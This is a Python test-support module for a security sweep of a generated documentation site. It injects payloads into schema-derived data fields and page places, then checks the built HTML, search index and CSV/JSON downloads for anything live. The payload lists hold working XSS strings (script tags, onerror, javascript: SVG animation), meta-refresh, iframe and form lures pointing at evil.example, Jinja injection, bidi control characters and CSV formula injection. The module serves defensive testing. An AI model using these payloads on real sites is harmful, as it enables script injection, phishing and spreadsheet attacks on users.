"""The payload sweep's parts (tests/security/test_payload_sweep.py): the payload
classes, the fields they go into (walked from schemas/, never listed by hand),
the page places they go into, and the judge of a written site.

Every payload carries a token (`kq00042z`) unique to its variant, so that one
build can hold many variants and whatever live thing the written site holds is
traced back to the variant that brought it.
"""
from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import math
import re
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import yaml
from lxml import etree
from lxml import html as lhtml

EVIL = "evil.example"

# ---------------------------------------------------------------- payload classes
# {T} is the variant's token. A class applies to text fields ("string") or to
# number fields ("number"); `replace`: the payload is the whole value (a CSV cell
# must start with it), otherwise it is appended to the real value.


@dataclass(frozen=True)
class PayloadClass:
    name: str
    payloads: tuple
    kind: str = "string"
    replace: bool = False
    pages: bool = True


class Escaped(str):
    """A payload a data file writes with YAML escapes for its hidden characters."""


LONG = "Dài " * 30_000  # 120,000 characters in one value

CLASSES = [
    PayloadClass("script", (
        "<script>alert(/{T}/)</script>",
        '<img src="x" onerror="alert(/{T}/)">',
        "[bấm {T}](javascript:alert(/{T}/))",
    )),
    PayloadClass("breakout", (
        '" onmouseover="alert(/{T}/)" x="',
        '"><script>alert(/{T}/)</script>',
        "'><svg onload=alert(/{T}/)>",
    )),
    PayloadClass("svg-html", (
        '<svg><desc><meta http-equiv="refresh" content="0;url=https://evil.example/{T}"></desc></svg>',
        '<svg><foreignObject><form action="https://evil.example/{T}"><input type="password" name="{T}"></form></foreignObject></svg>',
        '<svg><desc><iframe src="https://evil.example/{T}"></iframe></desc></svg>',
    )),
    PayloadClass("svg-animate", (
        '<svg><a><animate attributeName="href" values="javascript:alert(/{T}/)"/><text y="20">{T}</text></a></svg>',
        '<svg><a><set attributeName="xlink:href" to="javascript:alert(/{T}/)"/><text y="20">{T}</text></a></svg>',
        '<svg><a xlink:href="https://evil.example/{T}"><text y="20">{T}</text></a></svg>',
    )),
    PayloadClass("foreign-link", (
        '<a href="https://evil.example/{T}">{T}</a>',
        "[{T}](https://evil.example/{T})",
    )),
    PayloadClass("title-markup", (
        '<abbr title="&lt;img src=x onerror=alert(/{T}/)&gt;">{T}</abbr>',
        '<a href="#" title="&lt;a href=&quot;https://evil.example/{T}&quot;&gt;x&lt;/a&gt;">{T}</a>',
    )),
    PayloadClass("jinja", (
        "{{ '{T}' ~ 'jx' }}",
        "{% set v = '{T}' %}{{ v ~ 'ev' }}",
    )),
    PayloadClass("marker", (
        "{T}a<!-- kh-fill tu-viet-tat -->{T}b",
        "{T}a<!-- kh-fill toan-van -->{T}b",
        "{T}a<!-- kh-fill van-ban-tong-quan -->{T}b",
        "{T}a<!-- kh-fill duoc-trich-dan luat-luu-tru -->{T}b",
    )),
    PayloadClass("bidi", (
        "{T}\u202e{T}gnp.exe",
        "{T}\u200b{T}\u2066x\u2069",
        # The same characters written as YAML escapes ("\u202E"): the file holds
        # only ASCII, the loaded value holds the control character.
        Escaped("{T}\u202e{T}gnp.exe"),
        Escaped("{T}\u2067{T}\u200d"),
    )),
    PayloadClass("formula", (  # put in front of the real value: a cell starts with it
        '=HYPERLINK("https://evil.example/{T}";"Xem")',
        "@SUM(1+1)*{T}",
        "+{T}",
        "-{T}",
    ), replace=True, pages=False),
    PayloadClass("overlong", ("{T} " + LONG,)),
    PayloadClass("nonfinite", (math.nan, math.inf, -math.inf), kind="number", replace=True, pages=False),
]
CLASS = {c.name: c for c in CLASSES}
# What the judge looks for that a class brings without an element: Jinja that
# ran, a marker that was filled, a hidden character that was published.
JINJA_RAN = re.compile(r"kq\d{5}z(?:jx|ev)")
HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")


def token(n: int) -> str:
    return f"kq{n:05d}z"


TOKEN = re.compile(r"kq\d{5}z")


def render(payload, tok: str):
    if isinstance(payload, Escaped):
        return Escaped(payload.replace("{T}", tok))
    return payload.replace("{T}", tok) if isinstance(payload, str) else payload


# ---------------------------------------------------------------- schema walk


@dataclass(frozen=True)
class FieldPath:
    """A field of a data file: `steps` of keys, "*" for every item of a list,
    "~" for every value of a free mapping; the JSON types it may hold; whether
    its schema says it is Markdown (links in it are content, not injection)."""
    file: str
    steps: tuple
    types: frozenset
    markdown: bool

    @property
    def name(self) -> str:
        return f"{self.file}:" + ".".join(str(s) for s in self.steps)


def _resolve(root: dict, schema):
    while isinstance(schema, dict) and str(schema.get("$ref", "")).startswith("#/"):
        target = root
        for step in schema["$ref"][2:].split("/"):
            target = target[step]
        rest = {k: v for k, v in schema.items() if k != "$ref"}
        schema = {**target, **rest}
    return schema


def _types(schema: dict) -> set:
    t = schema.get("type")
    out = set(t) if isinstance(t, list) else ({t} if t else set())
    if "enum" in schema:
        out |= {"string" if isinstance(v, str) else "number" for v in schema["enum"] if v is not None}
    return out


def walk_schema(file: str, root: dict) -> list[FieldPath]:
    """Every leaf field (string or number) of a schema, with its path."""
    found: dict[tuple, FieldPath] = {}

    def visit(schema, steps: tuple, markdown: bool):
        schema = _resolve(root, schema)
        if not isinstance(schema, dict):
            return
        markdown = markdown or "Markdown" in str(schema.get("description", ""))
        for key in ("then", "else"):
            if key in schema:
                visit(schema[key], steps, markdown)
        for key in ("oneOf", "anyOf", "allOf"):
            for sub in schema.get(key, []):
                visit(sub, steps, markdown)
        for name, sub in (schema.get("properties") or {}).items():
            visit(sub, steps + (name,), markdown)
        if isinstance(schema.get("additionalProperties"), dict):
            visit(schema["additionalProperties"], steps + ("~",), markdown)
        if isinstance(schema.get("items"), dict):
            visit(schema["items"], steps + ("*",), markdown)
        for sub in schema.get("prefixItems", []):
            visit(sub, steps + ("*",), markdown)
        leaf = _types(schema) & {"string", "number", "integer"}
        if leaf and steps:
            old = found.get(steps)
            types = frozenset(leaf | (old.types if old else set()))
            found[steps] = FieldPath(file, steps, types, markdown or bool(old and old.markdown))

    visit(root, (), False)
    return list(found.values())


def instances(data, steps: tuple, prefix: tuple = ()) -> list[tuple]:
    """The concrete paths (keys and list indexes) of `steps` in `data`."""
    if not steps:
        return [prefix]
    head, rest = steps[0], steps[1:]
    out: list[tuple] = []
    if head == "*" and isinstance(data, list):
        for i, item in enumerate(data):
            out += instances(item, rest, prefix + (i,))
    elif head == "~" and isinstance(data, dict):
        for k, v in data.items():
            out += instances(v, rest, prefix + (k,))
    elif isinstance(data, dict) and head in data:
        out += instances(data[head], rest, prefix + (head,))
    return out


def parents(data, steps: tuple) -> list[tuple]:
    """Where a field absent from the data could be written: the concrete paths
    of its parent objects (so an optional field no entry uses is swept too)."""
    *up, last = steps
    if last in ("*", "~"):
        return []
    return [p + (last,) for p in instances(data, tuple(up)) if isinstance(_get(data, p), dict)]


def _get(data, path: tuple):
    for step in path:
        data = data[step]
    return data


def put(data, path: tuple, value, replace: bool):
    """Write `value` at `path`: after the real text, or (`replace`) before it
    (a number is replaced)."""
    target = _get(data, path[:-1])
    old = target.get(path[-1]) if isinstance(target, dict) else target[path[-1]]
    if isinstance(old, str) and isinstance(value, str):
        value = f"{value} {old}" if replace else f"{old} {value}"
    target[path[-1]] = value


class _Loader(getattr(yaml, "CSafeLoader", yaml.SafeLoader)):
    """YAML as the build reads it: dates stay text."""


_Loader.yaml_implicit_resolvers = {
    first: [(tag, rx) for tag, rx in resolvers if tag != "tag:yaml.org,2002:timestamp"]
    for first, resolvers in yaml.SafeLoader.yaml_implicit_resolvers.items()
}


def load_yaml(text: str):
    return yaml.load(text, Loader=_Loader)


class _Dumper(yaml.SafeDumper):
    pass


def _str(dumper, value):
    style = '"' if HIDDEN.search(value) else None
    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style=style)


_Dumper.add_representer(str, _str)
_Dumper.add_representer(Escaped, _str)  # a payload written in place of a value it does not append to


def dump_yaml(data, escape: bool = False) -> str:
    """YAML text of `data`, each value on one line; `escape`: hidden characters
    written as YAML escapes (\\u202E) in double-quoted values."""
    text = yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=1_000_000_000,
                     default_flow_style=False)
    return HIDDEN.sub(lambda m: f"\\u{ord(m.group(0)):04X}", text) if escape else text


def line_of_path(text: str, path: tuple) -> int:
    """The 1-based line of the value at `path` in YAML `text`."""
    node = yaml.compose(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
    for step in path:
        if isinstance(node, yaml.MappingNode):
            node = next(v for k, v in node.value if k.value == str(step))
        else:
            node = node.value[step]
    return node.start_mark.line + 1


# ---------------------------------------------------------------- page places


def _quoted(p: str) -> str | None:
    """`p` as an attr_list or link-title value, in quotes it does not hold."""
    if '"' not in p:
        return f'"{p}"'
    if "'" not in p:
        return f"'{p}'"
    return None


def _attr_list(key):
    def make(p, t):
        q = _quoted(p)
        return None if q is None else f"Đoạn {t}.\n{{: {key}={q} }}"
    return make


def _hash_id(p, t):
    return None if re.search(r"[\s}]", p) else f"## Mục {t} {{: #{p} }}"


def _heading_id(p, t):
    q = _quoted(p)
    return None if q is None else f"## Mục {t} {{: id={q} }}"


def _link_title(p, t):
    if '"' not in p:
        return f'Đoạn [liên kết {t}](#cach-trinh-bay "{p}").'
    if "'" not in p:
        return f"Đoạn [liên kết {t}](#cach-trinh-bay '{p}')."
    return None


def _e(p):
    return html.escape(p, quote=True)


def _h1_id(p, t):
    q = _quoted(p)
    return None if q is None else f"# Ghi chú về văn bản gốc {{: id={q} }}"


# name: (how the payload is written in the page, whether it is body Markdown;
# the sweep counts a plain link a page writes in its article as its content).
# A block that starts with "# " replaces the page's first heading (the one the
# theme's skip link points to); the others are appended to the page.
PAGE_PLACES = {
    "first-heading-id": (_h1_id, False),
    "heading-text": (lambda p, t: f"## Mục {p} {{: #muc-{t} }}", True),
    "heading-id-hash": (_hash_id, False),
    "heading-id": (_heading_id, False),
    "paragraph-id": (_attr_list("id"), False),
    "raw-heading-id": (lambda p, t: f'<h2 id="{_e(p)}">Mục {t}</h2>', False),
    "raw-paragraph-id": (lambda p, t: f'<p id="{_e(p)}">Đoạn {t}.</p>', False),
    "title-attr_list": (_attr_list("title"), False),
    "link-title": (_link_title, False),
    "raw-title": (lambda p, t: f'<p>Đoạn <span title="{_e(p)}">{t}</span>.</p>', False),
    "data-attr_list": (_attr_list("data-kh-chrome"), False),
    "raw-attributes": (lambda p, t: f'<p class="{_e(p)}" data-kh-x="{_e(p)}">Đoạn {t}.</p>', False),
    "body": (lambda p, t: f"Đoạn {t}: {p}", True),
    "raw-footnotes": (lambda p, t: f'<div class="footnote">\n<ol>\n<li id="fn:{t}">{p}</li>\n</ol>\n</div>', True),
}
PAGE = "docs/ve-trang-nay/ghi-chu-van-ban.md"


# ---------------------------------------------------------------- the judge


@dataclass
class Finding:
    what: str     # e.g. "script", "on* attribute", "foreign link"
    where: str    # the written file (and the element)
    token: str | None
    link: bool = False  # a plain link to another site (content in a Markdown field)

    def __str__(self):
        return f"{self.what} in {self.where}"


URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
             "values", "to", "from", "by", "srcset"}
LIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
             "form", "input", "button", "textarea", "select", "animate", "set", "animatemotion",
             "animatetransform", "portal"}
JS_TYPES = {"", "text/javascript", "module", "application/javascript"}


def _token_in(*texts) -> str | None:
    for text in texts:
        m = TOKEN.search(text or "")
        if m:
            return m.group(0)
    return None


def _signature(el) -> str:
    attrs = sorted((str(k), str(v)) for k, v in el.attrib.items())
    body = (el.text or "") if _tag(el) == "script" else ""
    return json.dumps([_tag(el), attrs, body], ensure_ascii=False)


def _tag(el) -> str:
    tag = el.tag if isinstance(el.tag, str) else ""
    return tag.rsplit("}", 1)[-1].lower()


@dataclass
class Baseline:
    """What the unbroken site already holds: our own scripts, the theme's forms."""
    signatures: set = field(default_factory=set)
    pages: dict = field(default_factory=dict)   # file -> its bytes' hash: an unchanged page is not judged again
    hidden: dict = field(default_factory=dict)  # file -> count of hidden characters


def tree_findings(root, where: str, base: Baseline, depth: int = 0) -> list[Finding]:
    """Live things in an HTML tree that the unbroken site does not hold."""
    out: list[Finding] = []
    for el in root.iter():
        tag = _tag(el)
        if not tag:
            continue
        attrs = {str(k).lower(): str(v) for k, v in el.attrib.items()}
        text = etree.tostring(el, encoding="unicode", with_tail=False)[:2000]
        tok = _token_in(text)
        if tag == "meta" and "http-equiv" in attrs and _signature(el) not in base.signatures:
            out.append(Finding(f"<meta http-equiv={attrs['http-equiv']!r}> element", f"{where}: {text[:160]}", tok))
        if tag in LIVE_TAGS and _signature(el) not in base.signatures:
            if tag == "script" and attrs.get("type", "").lower() not in JS_TYPES:
                try:
                    json.loads(el.text or "null")
                except ValueError:
                    out.append(Finding("script data that is no longer JSON", f"{where} <{tag}>", tok))
            else:
                out.append(Finding(f"<{tag}> element", f"{where}: {text[:160]}", tok))
        for name, value in attrs.items():
            if name.startswith("on"):
                out.append(Finding(f"{name} attribute", f"{where} <{tag} {name}={value[:80]!r}>", tok or _token_in(value)))
            if name in URL_ATTRS or name.endswith(":href"):
                v = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
                if v.startswith(("javascript:", "data:", "vbscript:")) or ";url=javascript:" in v:
                    out.append(Finding(f"{v.split(':')[0]}: address in {name}", f"{where} <{tag} {name}={value[:80]!r}>",
                                       tok or _token_in(value)))
                elif EVIL in v:
                    if name.endswith(":href") and (tag, name, value) not in base.signatures:
                        out.append(Finding(f"{name} attribute", f"{where} <{tag}>", tok or _token_in(value)))
                    # A plain link inside the article is what the page (or a Markdown field) says;
                    # anywhere else (contents, skip link, head, a tooltip) it is injected.
                    in_article = any(_tag(a) == "article" for a in el.iterancestors())
                    out.append(Finding(f"link to another site ({name})", f"{where} <{tag} {name}={value[:80]!r}>",
                                       tok or _token_in(value), link=(tag == "a" and name == "href" and in_article)))
            if name == "title" and depth == 0 and "<" in value:
                # The theme's tooltips insert a title into the page as HTML.
                for f in fragment_findings(value, f"{where} <{tag} title> as the tooltip shows it", base, depth + 1):
                    f.token = f.token or tok
                    f.link = False
                    out.append(f)
    return out


def fragment_findings(text: str, where: str, base: Baseline, depth: int = 0) -> list[Finding]:
    """Live things in a piece of HTML as a browser would insert it (a title, a search entry)."""
    if "<" not in text:
        return []
    try:
        root = lhtml.fragment_fromstring(text, create_parent="div")
    except (etree.ParserError, ValueError):
        return []
    return tree_findings(root, where, base, depth)


def baseline_of(site: Path) -> Baseline:
    base = Baseline()
    for path in sorted(site.rglob("*.html")):
        base.pages[str(path.relative_to(site))] = hashlib.sha1(path.read_bytes()).hexdigest()
        root = lhtml.fromstring(path.read_bytes())
        for el in root.iter():
            if _tag(el) in LIVE_TAGS or _tag(el) == "meta":
                base.signatures.add(_signature(el))
            for k, v in el.attrib.items():
                if str(k).endswith(":href"):
                    base.signatures.add((_tag(el), str(k).lower(), str(v)))
    for path in _text_files(site):
        n = len(HIDDEN.findall(path.read_text(encoding="utf-8", errors="replace")))
        if n:
            base.hidden[str(path.relative_to(site))] = n
    return base


def _text_files(site: Path):
    for path in sorted(site.rglob("*")):
        if path.is_file() and path.suffix in (".html", ".json", ".csv", ".xml", ".txt"):
            yield path


def _strict_json(text: str):
    def refuse(name):
        raise ValueError(f"{name} is not JSON")
    return json.loads(text, parse_constant=refuse)


# A cell may hold a whole overlong payload (120,000 characters): more than the
# csv module's default limit of 131,072 once the real value is added.
csv.field_size_limit(16 * 1024 * 1024)

_NUMBER = re.compile(r"^[-+]?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?$")


def judge_site(site: Path, base: Baseline) -> list[Finding]:
    """Everything live the written site holds that the unbroken one does not:
    its HTML pages, its search index, its downloads (JSON, CSV)."""
    out: list[Finding] = []
    for path in sorted(site.rglob("*.html")):
        rel = str(path.relative_to(site))
        data = path.read_bytes()
        if base.pages.get(rel) == hashlib.sha1(data).hexdigest():
            continue
        raw = data.decode("utf-8")
        root = lhtml.fromstring(raw)
        out += tree_findings(root, rel, base)
        out += _text_findings(raw, rel)
    index = site / "search" / "search_index.json"
    if index.exists():
        try:
            entries = _strict_json(index.read_text(encoding="utf-8"))["docs"]
        except ValueError as exc:
            out.append(Finding(f"search index that is not valid JSON ({exc})", "search/search_index.json", None))
            entries = []
        for e in entries:
            where = f"search/search_index.json entry {e.get('location')!r}"
            for key in ("title", "text"):
                for f in fragment_findings(str(e.get(key, "")), f"{where} {key}", base):
                    if key == "title":
                        f.link = False  # a title is text: a link in it is never content
                    out.append(f)
    for path in sorted(list((site / "du-lieu").glob("*")) + list((site / "van-ban").glob("*.*"))):
        rel = str(path.relative_to(site))
        text = path.read_text(encoding="utf-8", errors="replace")
        if path.suffix == ".json":
            try:
                _strict_json(text)
            except ValueError as exc:
                out.append(Finding(f"download that is not valid JSON ({exc})", rel, None))
        elif path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(cell):
                        out.append(Finding(f"CSV cell a spreadsheet runs as a formula: {cell[:60]!r}", rel, _token_in(cell)))
    for path in _text_files(site):
        rel = str(path.relative_to(site))
        text = path.read_text(encoding="utf-8", errors="replace")
        hidden = HIDDEN.findall(text)
        if len(hidden) > base.hidden.get(rel, 0):
            found = False
            for m in HIDDEN.finditer(text):
                tok = _token_in(text[max(0, m.start() - 12):m.start() + 12])
                if tok:
                    out.append(Finding(f"hidden character U+{ord(m.group(0)):04X} published", rel, tok))
                    found = True
            if not found:
                out.append(Finding(f"{len(hidden) - base.hidden.get(rel, 0)} hidden characters more than the unbroken site", rel, None))
        for m in JINJA_RAN.finditer(text):
            out.append(Finding(f"Jinja evaluated ({m.group(0)!r} written)", rel, m.group(0)[:8]))
        for m in re.finditer(r"(kq\d{5}z)a", text):
            if _marker_follows(text, m.end()):
                continue  # the marker is still there (as text, or cut short with "…"): not filled
            end = text.find(m.group(1) + "b", m.end())
            if end > m.end() + 200:
                out.append(Finding(f"marker filled ({end - m.end()} characters between the payload's ends)", rel, m.group(1)))
    return out


# The marker payloads' comment as the written site may hold it unfilled: raw
# (an inert comment), escaped as HTML, as JSON's \u003c, or HTML-escaped twice.
_MARKER_FORMS = ("<!-- kh-fill", "&lt;!-- kh-fill", "\\u003c!-- kh-fill", "&amp;lt;!-- kh-fill")


def _marker_follows(text: str, pos: int) -> bool:
    """The text at `pos` (right after a marker payload's first end) is the marker
    itself, or the start of it where a shortened text (a description) ends with "…"."""
    after = text[pos:pos + 40]
    cut = after.split("…", 1)[0] if "…" in after else None
    return any(after.startswith(form) or (cut is not None and form.startswith(cut)) for form in _MARKER_FORMS)


_NONFINITE_TEXT = re.compile(r"(?<![\w-])(?:nan|inf|-inf|infinity|NaN|Infinity)(?![\w-])")


def _text_findings(raw: str, rel: str) -> list[Finding]:
    """A number that is not a number, as a reader would read it."""
    root = lhtml.fromstring(raw)
    for bad in root.xpath("//script|//style"):
        bad.drop_tree()
    text = root.text_content()
    out = []
    for m in _NONFINITE_TEXT.finditer(text):
        out.append(Finding(f"a number shown as {m.group(0)!r}", rel, None))
    return out
